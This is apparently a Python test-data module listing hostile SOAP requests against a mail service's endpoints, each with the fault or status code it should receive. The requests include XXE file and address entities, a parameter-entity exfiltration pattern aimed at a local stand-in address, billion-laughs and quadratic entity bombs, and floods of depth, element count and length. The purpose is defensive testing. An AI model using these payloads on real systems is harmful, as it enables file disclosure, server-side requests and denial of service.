"""Hostile SOAP requests as data: what is sent, and the one answer that each gets.

The classes are those of the OWASP sheets on XML and external entities and of WS-Attacker: entities, coercive
parsing, counts, lengths, encodings. No request has credentials: an attacker has none. Each has `CANARY` in it,
which must come back nowhere. Encodings and meanings are in `disguises`.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass, field

PATH = "/Services/WSMailUpImport.asmx"
SEND_PATH = "/MailupSend.asmx"
NAMESPACE, SEND_NAMESPACE = "http://ws.mailupnet.it/", "http://services.mailupnet.it/WS"
V11, V12 = "http://schemas.xmlsoap.org/soap/envelope/", "http://www.w3.org/2003/05/soap-envelope"
XSI = "http://www.w3.org/2001/XMLSchema-instance"
TEXT, SOAP = "text/xml; charset=utf-8", "application/soap+xml; charset=utf-8"
CANARY = "QanaryQ7f3"
ADDRESS = "http://127.0.0.1:9"
"""Where entities point to; tests put an address in its place where they listen."""
FILE = "/nowhere/watched"
"""The file that entities point to; tests put one in its place that they watch."""
LISTS = f'<GetNlLists xmlns="{NAMESPACE}" />'

M = 1_000_000


@dataclass(frozen=True)
class Expected:
    """The kind of an answer: its status, and what must be in its text; an empty text means an empty body."""

    status: int
    text: str = ""


@dataclass(frozen=True)
class Attack:
    """A request."""

    name: str
    build: Callable[[], bytes]
    expected: Expected
    content_type: str = TEXT
    path: str = PATH
    headers: Mapping[str, str] = field(default_factory=dict)

    def all_headers(self) -> dict[str, str]:
        """Return the headers with the content type."""
        return {"Content-Type": self.content_type, **self.headers}


def client_fault(text: str) -> Expected:
    return Expected(500, f"<faultcode>soap:Client</faultcode><faultstring>{text}")


def limit(text: str) -> Expected:
    return client_fault(f"Server was unable to read request. ---&gt; {text}")


MALFORMED = Expected(400)
UNSUPPORTED = Expected(415)
TOO_LARGE = Expected(413, "413 Content Too Large")
ANSWERED = Expected(200, "ReturnCode&gt;-1013&lt;")
"""What was hostile was passed over, and the rest refused for want of credentials."""
UNKNOWN_ACTION = client_fault("Server did not recognize the value of HTTP Header SOAPAction.")
NO_ACTION = client_fault("Unable to handle request without a valid action parameter.")
NO_OPERATION = client_fault("Server was unable to read request. ---&gt; The body of the message holds no operation.")
NOT_UNDERSTOOD = Expected(500, "<faultcode>soap:MustUnderstand</faultcode>")
NO_ENVELOPE = Expected(500, "<faultcode>soap:VersionMismatch</faultcode>")
UNREADABLE = client_fault("Server was unable to read request. ---&gt; There is an error in XML document (")
TOO_DEEP = limit("The message has more than 100 levels of elements.")
TOO_MANY_NODES = limit("The message has more than 5000 elements and attributes, or name space declarations.")
TOO_MANY_ATTRIBUTES = limit("An element has more than 64 attributes.")
NAME_TOO_LONG = limit("The name of an element or attribute has more than 1024 characters.")
TAG_TOO_LONG = limit("A tag, comment or processing instruction has more than 262144 bytes.")
TEXT_TOO_LONG = limit("The message has more than 1048576 characters of text.")
MESSAGE_TOO_LARGE = Expected(413, "The message has more than 2097152 bytes.")


def envelope(body: str, *, header: str = "", version: str = V11, prolog: str = "") -> bytes:
    """Return a message; a canary stands in it as a header, a comment and an attribute."""
    return (
        f'{prolog}<e:Envelope xmlns:e="{version}" xmlns:xsi="{XSI}"><!--{CANARY}-->'
        f'<e:Header><x:Note xmlns:x="urn:x" {CANARY}="{CANARY}">{CANARY}</x:Note>{header}</e:Header>'
        f"<e:Body>{body}</e:Body></e:Envelope>"
    ).encode()


def details(content: str, attributes: str = "") -> str:
    """Return a call with parameters: idList, listGUID, idProcess."""
    return f'<GetProcessDetails xmlns="{NAMESPACE}" {attributes}>{content}</GetProcessDetails>'


def inside(content: Callable[[], str], name: str = "GetNlLists") -> Callable[[], bytes]:
    """Return what builds a call with this content."""
    return lambda: envelope(f'<{name} xmlns="{NAMESPACE}">{content()}</{name}>')


def body_of(body: str, **more: str) -> Callable[[], bytes]:
    """Return what builds a message with this body."""
    return lambda: envelope(body, **more)


def _declare(declaration: str, content: str = "&a;") -> Callable[[], bytes]:
    """Return what builds a message after a document type."""
    return lambda: envelope(details(f"<listGUID>{content}</listGUID>"), prolog=f"<!--{CANARY}-->{declaration}")


def _laughs(count: int) -> str:
    powers = "".join(f'<!ENTITY a{number} "{f"&a{number - 1};" * 10}">' for number in range(1, count))
    return f'<!DOCTYPE x [<!ENTITY a0 "{CANARY}">{powers}<!ENTITY a "&a{count - 1};">]>'


_DOCUMENT_TYPES: dict[str, Callable[[], bytes]] = {
    "doctype-bare": _declare("<!DOCTYPE x>", ""),
    "doctype-empty": _declare("<!DOCTYPE x []>", ""),
    "doctype-envelope": _declare(f'<!DOCTYPE e:Envelope PUBLIC "-//{CANARY}//" "{ADDRESS}/x.dtd">', ""),
    "doctype-external-file": _declare(f'<!DOCTYPE x SYSTEM "file://{FILE}">', ""),
    "doctype-external-address": _declare(f'<!DOCTYPE x SYSTEM "{ADDRESS}/x.dtd">', ""),
    "doctype-standalone": _declare(f'<?xml version="1.0" standalone="no"?><!DOCTYPE x SYSTEM "{ADDRESS}/">'),
    "entity-internal": _declare(f'<!DOCTYPE x [<!ENTITY a "{CANARY}">]>'),
    "entity-in-attribute": lambda: envelope(details("", 'a="&a;"'), prolog=f'<!DOCTYPE x [<!ENTITY a "{CANARY}">]>'),
    "entity-recursive": _declare('<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'),
    "entity-undeclared": body_of(details("<listGUID>&a;</listGUID>")),
    "entity-undeclared-in-attribute": body_of(details("", 'a="&a;"')),
    "billion-laughs": _declare(_laughs(10)),
    "billion-laughs-parameter": _declare(
        '<!DOCTYPE x [<!ENTITY % a0 "x"><!ENTITY % a1 "&#37;a0;&#37;a0;"><!ENTITY % a2 "&#37;a1;&#37;a1;">%a2;]>'
    ),
    "quadratic-blow-up": lambda: envelope(
        details(f"<listGUID>{'&a;' * 50_000}</listGUID>"), prolog=f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>'
    ),
    "entity-file": _declare(f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{FILE}">]>'),
    "entity-file-bare": _declare(f'<!DOCTYPE x [<!ENTITY a SYSTEM "{FILE}">]>'),
    "entity-address": _declare(f'<!DOCTYPE x [<!ENTITY a SYSTEM "{ADDRESS}/{CANARY}">]>'),
    "entity-public": _declare(f'<!DOCTYPE x [<!ENTITY a PUBLIC "any" "{ADDRESS}/{CANARY}">]>'),
    "entity-ftp": _declare(f'<!DOCTYPE x [<!ENTITY a SYSTEM "{ADDRESS.replace("http", "ftp")}/x">]>'),
    "entity-php": _declare(
        f'<!DOCTYPE x [<!ENTITY a SYSTEM "php://filter/read=convert.base64-encode/resource={FILE}">]>'
    ),
    "entity-jar": _declare(f'<!DOCTYPE x [<!ENTITY a SYSTEM "jar:{ADDRESS}/x!/y">]>'),
    "entity-device": _declare('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///dev/zero">]>'),
    "entity-unparsed": _declare(
        f'<!DOCTYPE x [<!NOTATION n SYSTEM "{ADDRESS}/"><!ENTITY a SYSTEM "file://{FILE}" NDATA n>]>', ""
    ),
    "parameter-entity": _declare("<!DOCTYPE x [<!ENTITY % p \"<!ENTITY a 'b'>\"> %p;]>"),
    "parameter-entity-address": _declare(f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{ADDRESS}/x.dtd"> %p;]>'),
    "parameter-entity-file": _declare(
        f'<!DOCTYPE x [<!ENTITY % f SYSTEM "file://{FILE}"><!ENTITY % p SYSTEM "{ADDRESS}/?%f;"> %f; %p;]>'
    ),
    "default-attributes": _declare(
        "<!DOCTYPE x [<!ATTLIST x " + " ".join(f'a{number} CDATA "{CANARY}"' for number in range(5000)) + ">]>", ""
    ),
    "element-declarations": _declare(f"<!DOCTYPE x [{'<!ELEMENT x (y,(z,(x|y)*)+)>' * 2000}]>", ""),
    "doctype-after-spaces": lambda: envelope(LISTS, prolog=" " * M + "<!DOCTYPE x []>"),
    "doctype-after-comments": lambda: envelope(LISTS, prolog=f"<!--{CANARY}-->" * 20_000 + "<!DOCTYPE x []>"),
    "doctype-late": lambda: envelope(LISTS) + b"<!DOCTYPE x>",
    "doctype-inside": body_of("<!DOCTYPE x>" + LISTS),
    "doctype-lower-case": _declare("<!doctype x>", ""),
    "doctype-unfinished": lambda: f'<!DOCTYPE x [<!ENTITY a "{CANARY}'.encode(),
}

DOCUMENT_TYPES = (
    *tuple(Attack(name, build, MALFORMED) for name, build in _DOCUMENT_TYPES.items()),
    Attack(
        "doctype-utf-16",
        lambda: (
            _declare(f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file://{FILE}">]>')()
            .decode()
            .removeprefix(f"<!--{CANARY}-->")
            .encode("utf-16")
        ),
        MALFORMED,
        "text/xml",
    ),
    Attack(
        "doctype-soap-1.2",
        lambda: envelope(LISTS, version=V12, prolog=f'<!DOCTYPE x SYSTEM "{ADDRESS}/">'),
        MALFORMED,
        SOAP,
    ),
)

# Words that make other programs fetch something; here they are attributes and instructions like any other.
REFERENCES = tuple(
    Attack(name, build, ANSWERED)
    for name, build in {
        "xinclude-file": inside(
            lambda: f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file://{FILE}" parse="text"/>'
        ),
        "xinclude-address": inside(
            lambda: f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{ADDRESS}/{CANARY}"/>'
        ),
        "schema-location": body_of(LISTS.replace(" />", f' xsi:schemaLocation="{NAMESPACE} {ADDRESS}/x.xsd" />')),
        "schema-without-namespace": body_of(LISTS.replace(" />", f' xsi:noNamespaceSchemaLocation="file://{FILE}" />')),
        "stylesheet": lambda: envelope(LISTS, prolog=f'<?xml-stylesheet type="text/xsl" href="{ADDRESS}/x.xsl"?>'),
        "stylesheet-file": lambda: envelope(LISTS, prolog=f'<?xml-stylesheet type="text/xsl" href="file://{FILE}"?>'),
        "transformation": inside(
            lambda: (
                '<t:transform xmlns:t="http://www.w3.org/1999/XSL/Transform" version="2.0">'
                f"<t:value-of select=\"document('{ADDRESS}/')\"/><t:include href='file://{FILE}'/></t:transform>"
            )
        ),
        "base": body_of(LISTS.replace(" />", f' xml:base="{ADDRESS}/" />')),
        "link": inside(lambda: f'<a xmlns:l="http://www.w3.org/1999/xlink" l:href="{ADDRESS}/" l:actuate="onLoad"/>'),
        "attachment": inside(
            lambda: f'<o:Include xmlns:o="http://www.w3.org/2004/08/xop/include" href="{ADDRESS}/{CANARY}"/>'
        ),
    }.items()
)

_COLLIDING = ["".join("Aa" if number >> bit & 1 else "BB" for bit in range(14)) for number in range(1 << 14)]
"""Names that are one and the same to the hash function of Java and others."""


def _attributes(count: int) -> str:
    return " ".join(f'a{number}="{CANARY}"' for number in range(count))


def _declarations(count: int, mark: int = 0) -> str:
    return " ".join(f'xmlns:p{mark}_{number}="u"' for number in range(count))


def _tags(name: str, count: int) -> str:
    return f"<{name}>" * count + f"</{name}>" * count


# Each alone takes longer, or more memory, in a parser that lets it pass.
COUNTS = tuple(
    Attack(name, inside(content), expected)
    for name, content, expected in (
        ("depth-100", lambda: _tags("a", 97), ANSWERED),
        ("depth-101", lambda: _tags("a", 98), TOO_DEEP),
        ("depth-50000", lambda: _tags("a", 50_000), TOO_DEEP),
        ("depth-unfinished", lambda: "<a>" * 60_000, TOO_DEEP),
        ("depth-with-namespaces", lambda: "<a xmlns='urn:a'>" * 50_000, TOO_DEEP),
        ("depth-with-prefixes", lambda: "".join(f"<p{n}:a xmlns:p{n}='urn:{n}'>" for n in range(50_000)), TOO_DEEP),
        ("elements-4900", lambda: "<a/>" * 4_900, ANSWERED),
        ("elements-million", lambda: "<a/>" * M, TOO_MANY_NODES),
        ("elements-other-names", lambda: "".join(f"<a{n}/>" for n in range(100_000)), TOO_MANY_NODES),
        ("elements-with-text", lambda: f"<a>{CANARY}</a>" * 100_000, TOO_MANY_NODES),
        ("elements-with-attributes", lambda: '<a b="" c="" d="" e="" f=""/>' * 1_900, TOO_MANY_NODES),
        ("elements-with-crowds", lambda: f"<a {_attributes(60)}/>" * 1_800, TOO_MANY_NODES),
        ("attributes-64", lambda: f"<a {_attributes(64)}/>", ANSWERED),
        ("attributes-65", lambda: f"<a {_attributes(65)}/>", TOO_MANY_ATTRIBUTES),
        ("attributes-8000", lambda: f"<a {_attributes(8_000)}/>", TOO_MANY_ATTRIBUTES),
        ("attributes-100000", lambda: f"<a {_attributes(100_000)}/>", TAG_TOO_LONG),
        ("attribute-twice", lambda: "<a b='' b=''/>", MALFORMED),
        ("attribute-twice-by-prefix", lambda: "<a xmlns:b='b' xmlns:c='b' b:d='' c:d=''/>", MALFORMED),
        ("colliding-elements", lambda: "".join(f"<{name}/>" for name in _COLLIDING[:4800]), ANSWERED),
        (
            "colliding-attributes",
            lambda: "".join(
                f"<a {'='.join(_COLLIDING[at : at + 60])}=/>".replace("=", '="" ') for at in range(0, 4800, 60)
            ),
            ANSWERED,
        ),
        ("namespaces-crowd", lambda: f"<a {_declarations(4_500)}/>", ANSWERED),
        ("namespaces-crowds", lambda: "".join(f"<a {_declarations(1_000, n)}/>" for n in range(70)), TOO_MANY_NODES),
        ("namespaces-churn", lambda: f"<a {_declarations(1_000)}/>" * 80, TOO_MANY_NODES),
        ("namespaces-nested", lambda: f"<a {_declarations(1_000)}>" * 80 + "</a>" * 80, TOO_MANY_NODES),
        ("namespaces-reset", lambda: '<a xmlns="">' * 90 + "</a>" * 90 + '<a xmlns="u" />' * 4_700, ANSWERED),
        ("prefix-undeclared", lambda: "<p:a/>", MALFORMED),
        ("prefix-reserved", lambda: '<a xmlns:xml="urn:x"/>', MALFORMED),
        ("prefix-xmlns", lambda: '<a xmlns:xmlns="urn:x"/>', MALFORMED),
        ("prefix-undone", lambda: '<a xmlns:p="urn:x"><p:b xmlns:p=""/></a>', MALFORMED),
    )
)

LENGTHS = (
    *tuple(
        Attack(name, inside(content, operation), expected)
        for name, operation, content, expected in (
            ("name-2000", "GetNlLists", lambda: f"<{'a' * 2000}/>", NAME_TOO_LONG),
            ("name-200-kilobytes", "GetNlLists", lambda: f"<{'a' * 200000}/>", NAME_TOO_LONG),
            ("name-10-megabytes", "GetNlLists", lambda: f"<{'a' * 10 * M}/>", TAG_TOO_LONG),
            ("name-of-attribute", "GetNlLists", lambda: f'<a {"b" * 10 * M}=""/>', TAG_TOO_LONG),
            ("name-of-prefix", "GetNlLists", lambda: f"<{'a' * 10 * M}:b/>", TAG_TOO_LONG),
            ("name-of-namespace", "GetNlLists", lambda: f'<a xmlns="{"u" * 200000}"/>', NAME_TOO_LONG),
            ("name-of-unused-namespace", "GetNlLists", lambda: f'<a xmlns:b="{"u" * 200000}"/>', ANSWERED),
            ("name-of-long-namespace", "GetNlLists", lambda: f'<a xmlns="{"u" * 10 * M}"/>', TAG_TOO_LONG),
            ("name-of-instruction", "GetNlLists", lambda: f"<?{'a' * 10 * M}?>", TAG_TOO_LONG),
            ("name-of-entity", "GetNlLists", lambda: f"&{'a' * 10 * M};", TAG_TOO_LONG),
            ("end-tag-long", "GetNlLists", lambda: f"<a></{'a' * 10 * M}>", TAG_TOO_LONG),
            ("spaces-in-tag", "GetNlLists", lambda: f"<a{' ' * 10 * M}/>", TAG_TOO_LONG),
            ("value-200-kilobytes", "GetNlLists", lambda: f'<a b="{"c" * 200000}"/>' * 5, ANSWERED),
            ("value-10-megabytes", "GetNlLists", lambda: f'<a b="{CANARY * M}"/>', TAG_TOO_LONG),
            ("value-of-references", "GetNlLists", lambda: f'<a b="{"&#x10FFFF;" * 25000}"/>', ANSWERED),
            ("comment-10-megabytes", "GetNlLists", lambda: f"<!--{CANARY * M}-->", TAG_TOO_LONG),
            ("comment-unfinished", "GetNlLists", lambda: f"<!--{'c' * 300000}", TAG_TOO_LONG),
            ("comments-many", "GetNlLists", lambda: "<!---->" * 250000, ANSWERED),
            ("instruction-10-megabytes", "GetNlLists", lambda: f"<?a {CANARY * M}?>", TAG_TOO_LONG),
            ("instructions-many", "GetNlLists", lambda: "<?a?>" * 350000, ANSWERED),
            ("section-10-megabytes", "GetNlLists", lambda: f"<![CDATA[{CANARY * M}]]>", TEXT_TOO_LONG),
            ("sections-many", "GetNlLists", lambda: "<![CDATA[a]]>" * 140000, ANSWERED),
            ("sections-empty", "GetNlLists", lambda: "<![CDATA[]]>" * 150000, ANSWERED),
            ("text-10-megabytes", "GetNlLists", lambda: CANARY * M, TEXT_TOO_LONG),
            ("text-in-pieces", "GetNlLists", lambda: "aa<!---->" * 200000, ANSWERED),
            ("text-in-pieces-across", "GetNlLists", lambda: "abc<a/>" * 4_900, ANSWERED),
            ("text-of-references", "GetNlLists", lambda: "&#65;" * 350000, ANSWERED),
            ("text-of-long-references", "GetNlLists", lambda: f"&#x{'0' * 200000}41;" * 5, ANSWERED),
            ("text-of-line-ends", "GetNlLists", lambda: "\r\n" * 900000, ANSWERED),
            ("number-long", "GetProcessDetails", lambda: f"<idList>{'9' * M}</idList>", UNREADABLE),
            ("message-of-comments", "GetNlLists", lambda: f"<!--{CANARY}-->" * 200000, MESSAGE_TOO_LARGE),
            ("message-of-spaces", "GetNlLists", lambda: " " * 3 * M, TEXT_TOO_LONG),
        )
    ),
    Attack("after-the-end", lambda: envelope(LISTS) + b" " * 3 * M, MESSAGE_TOO_LARGE),
    Attack("before-the-root", lambda: b" " * 3 * M + envelope(LISTS), MESSAGE_TOO_LARGE),
    Attack("header-3-megabytes", lambda: envelope(LISTS, header=f"<a b='{'c' * 100000}'/>" * 30), MESSAGE_TOO_LARGE),
    Attack("header-crowd", lambda: envelope(LISTS, header="<a/>" * 100000), TOO_MANY_NODES),
    Attack("announced-3-megabytes", lambda: envelope(LISTS + CANARY * 300000), TOO_LARGE, path=SEND_PATH),
    Attack(
        "array-of-100000",
        lambda: envelope(
            f'<CreateNewsletter xmlns="{SEND_NAMESPACE}"><options>{"<Option/>" * 100000}</options></CreateNewsletter>'
        ),
        TOO_MANY_NODES,
        path=SEND_PATH,
    ),
    Attack(
        "array-of-soap-encoding",
        body_of(
            f'<CreateNewsletter xmlns="{SEND_NAMESPACE}" xmlns:n="http://schemas.xmlsoap.org/soap/encoding/">'
            f'<options n:arrayType="Option[2147483647]" n:offset="[2147483646]">{CANARY}</options></CreateNewsletter>'
        ),
        Expected(200, "CreateNewsletterResult"),
        path=SEND_PATH,
    ),
)
